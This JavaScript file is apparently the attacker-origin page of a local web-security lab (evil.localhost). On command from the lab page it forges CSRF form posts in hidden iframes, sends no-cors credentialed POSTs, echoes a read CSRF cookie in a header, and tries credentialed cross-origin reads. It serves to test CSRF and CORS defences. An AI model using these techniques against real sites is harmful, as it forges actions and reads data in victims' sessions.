// A page of one of the lab's other sites: the attacker (evil.localhost), or a front end of the site's own on
// another origin (127.0.0.1:PORT+1) or another site (app.localhost). It acts when its opener, the lab page,
// sends it a job, and answers with what it saw. What it may send and read is the browser's decision.
"use strict";

const sleepUntil = (promise, ms) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms))]);

const JOBS = {
  // A form posted into a hidden frame: the browser decides which cookies or cached credentials go with it.
  async "csrf-form"({ jobs }) {
    for (const { url, title } of jobs) {
      const frame = document.createElement("iframe");
      frame.name = `lab-${Math.random().toString(36).slice(2)}`;
      frame.hidden = true;
      frame.title = "the forged form's answer";
      const form = Object.assign(document.createElement("form"), { method: "POST", action: url, target: frame.name });
      for (const [name, value] of Object.entries({ title, body: "forged by evil.localhost" })) {
        form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
      }
      document.body.append(frame, form);
      const answered = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
      form.submit();
      await sleepUntil(answered, 10_000); // the load event comes even when the answer may not be framed
      form.remove();
    }
    return { sent: jobs.length };
  },

  // A "simple" cross-origin request (form body, no custom header): no preflight; the answer stays opaque.
  async "csrf-fetch"({ jobs }) {
    for (const { url, title } of jobs) {
      const body = new URLSearchParams({ title, body: "forged by evil.localhost" });
      await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {});
    }
    return { sent: jobs.length };
  },

  // An unsafe request as the site's own front end makes it: JSON, the CSRF cookie (readable: cookies ignore
  // the port) echoed in its header. CORS has to allow the preflight; Django's CSRF check has its own say.
  async write({ writes }) {
    const results = [];
    for (const { url, csrfCookie, csrfHeader } of writes) {
      const found = document.cookie.split("; ").find((c) => c.startsWith(csrfCookie + "="));
      const headers = { "Content-Type": "application/json", Accept: "application/json", [csrfHeader]: found ? found.slice(csrfCookie.length + 1) : "" };
      try {
        const response = await fetch(url, { method: "POST", credentials: "include", headers, body: JSON.stringify({ title: "from a front end", body: "" }) });
        const body = await response.json().catch(() => ({}));
        results.push({ read: true, status: response.status, detail: body.detail || "" });
      } catch (error) {
        results.push({ read: false, error: `${error.name}: blocked by CORS` });
      }
    }
    return results;
  },

  // Read each URL with the browser's credentials, if CORS lets this origin read the answer.
  async read({ urls }) {
    const results = [];
    for (const url of urls) {
      try {
        const response = await fetch(url, { credentials: "include", headers: { Accept: "application/json" } });
        const body = await response.json().catch(() => ({}));
        results.push({ read: true, status: response.status, username: body.username || null, body });
      } catch (error) {
        results.push({ read: false, error: `${error.name}: blocked by CORS` });
      }
    }
    return results;
  },
};

window.addEventListener("message", async (event) => {
  if (event.source !== window.opener || !JOBS[event.data.task]) return;
  document.getElementById("site-status").textContent = `Doing: ${event.data.task}`;
  let result;
  try {
    result = await JOBS[event.data.task](event.data);
  } catch (error) {
    result = { error: String(error) };
  }
  event.source.postMessage({ result }, event.origin);
});
if (window.opener) window.opener.postMessage({ ready: true }, "*"); // nothing secret: the lab checks the origin
